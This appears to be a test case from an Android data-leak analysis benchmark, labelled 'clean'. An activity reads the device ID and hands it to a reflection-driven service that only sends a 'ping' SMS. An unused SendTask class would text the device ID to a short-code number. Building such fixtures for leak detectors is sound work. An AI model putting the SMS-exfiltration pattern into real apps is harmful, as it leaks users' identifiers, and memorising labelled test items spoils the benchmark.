// about       The service makes the class that an extra names; that class does not use the other extra.
// clean       -
// service     cn.example.flow.MainActivity$TaskService
package cn.example.flow;

import android.app.Activity;
import android.app.Service;
import android.content.Intent;
import android.os.Bundle;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Intent intent = new Intent(this, TaskService.class);
    // The class that will take the value.
    intent.putExtra("handler", "cn.example.flow.PingTask");
    intent.putExtra("value", phone.getDeviceId());
    startService(intent);
  }

  public static class TaskService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
      try {
        Class<?> type = Class.forName(intent.getStringExtra("handler"));
        ((Task) type.newInstance()).run(intent.getStringExtra("value"));
      } catch (ReflectiveOperationException e) {
        stopSelf();
      }
      return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
      return null;
    }
  }
}

interface Task {
  void run(String value);
}

class SendTask implements Task {
  @Override
  public void run(String value) {
    SmsManager.getDefault().sendTextMessage("10690000", null, "value " + value, null, null);
  }
}

class PingTask implements Task {
  @Override
  public void run(String value) {
    SmsManager.getDefault().sendTextMessage("10690000", null, "ping", null, null);
  }
}
